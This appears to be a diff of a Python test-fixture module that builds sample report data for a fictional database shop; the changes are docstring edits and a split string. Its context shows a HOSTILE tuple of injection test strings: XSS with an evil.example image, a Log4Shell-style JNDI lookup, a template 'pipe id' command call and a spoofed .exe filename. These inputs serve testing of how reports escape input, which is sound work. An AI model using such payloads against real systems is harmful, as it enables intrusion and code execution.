@@ -2,7 +2,7 @@
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 
-"""Rows as the tasks return them, and the reports made of them: a made-up shop of databases and caches, brought back to yesterday 14:05 UTC.
+"""Sample rows and their reports: a made-up shop of databases and caches, restored to yesterday 14:05 UTC.
 
 report = samples.VARIANTS["two_of_ten_failed"]()
 """
@@ -30,7 +30,8 @@ HOSTILE = (
     "{{ lookup('pipe', 'id') }}{% raw %}",
     "</script><img src=https://evil.example/x onerror=alert(1)>",
     "abc\u202egpj.exe\u2066x\u200b",
-    "| a | [x](javascript:alert(1)) `b` **c** <b>d</b> &lt; www.evil.example https://evil.example/ a@evil.example",
+    "| a | [x](javascript:alert(1)) `b` **c** <b>d</b> &lt; "
+    "www.evil.example https://evil.example/ a@evil.example",
     "line\nbreak\r\x1b[31mred\x00\x9b\ud800",
     "]]> --> ${jndi:ldap://evil.example} '\"><style>*{display:none}",
 )
@@ -300,7 +301,7 @@ def run(**context: Any) -> dict[str, Any]:
 
 
 def made(rows: Iterable[Row], seconds: float = 640, finished: bool = True, **context: Any) -> dict[str, Any]:
-    """The report of a run so many seconds after its start. With a `json` path it names files, as a report that was written does."""
+    """The report of a run so many seconds after its start. It names files, like one that was written."""
     begun = run(**context)
     stem = f"reports/{begun['id']}"
     begun["files"] = {
